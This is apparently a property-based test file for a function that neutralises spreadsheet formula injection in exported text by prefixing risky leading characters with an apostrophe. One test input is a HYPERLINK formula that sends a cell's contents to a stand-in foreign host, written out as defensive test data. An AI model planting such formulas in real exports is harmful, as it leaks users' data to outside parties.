import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { neutraliseFormula, restoreFormula } from '@/lib/formula-text'

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']

/** Texts that begin with what matters far more often than chance would have it. */
const anyText = fc
  .tuple(
    fc.array(fc.constantFrom("'", ...STARTS, ' ', 'a', 'ü', '0'), { maxLength: 5 }),
    fc.string({ unit: 'grapheme', maxLength: 20 }),
  )
  .map(([start, rest]) => start.join('') + rest)

describe('neutralised, a text', () => {
  it.each([
    ['=HYPERLINK("http://fremd.example/?"&A1)', '\'=HYPERLINK("http://fremd.example/?"&A1)'],
    ['+49 431 5550-10', "'+49 431 5550-10"],
    ["'=1", "''=1"],
    ['-', "'-"],
    ['000412', '000412'],
    ["'s-Hertogenbosch", "'s-Hertogenbosch"],
    ['a=1', 'a=1'],
    ['', ''],
  ])('%j is %j', (text, neutral) => {
    expect(neutraliseFormula(text)).toBe(neutral)
    expect(restoreFormula(neutral)).toBe(text)
  })

  it('never begins a formula, and comes back letter by letter', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const neutral = neutraliseFormula(text)
        expect(STARTS).not.toContain(neutral[0])
        expect(restoreFormula(neutral)).toBe(text)
      }),
      { numRuns: 2_000 },
    )
  })

  it('differs from what it was by one apostrophe at most, and only where it is needed', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const needed = STARTS.some((start) => text.replace(/^'+/, '').startsWith(start))
        expect(neutraliseFormula(text)).toBe(needed ? `'${text}` : text)
      }),
      { numRuns: 2_000 },
    )
  })
})

describe('restored, a text', () => {
  it('is what an export writes as it stood, or it stays as it is', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const restored = restoreFormula(text)
        expect(restored === text || neutraliseFormula(restored) === text).toBe(true)
      }),
      { numRuns: 2_000 },
    )
  })
})
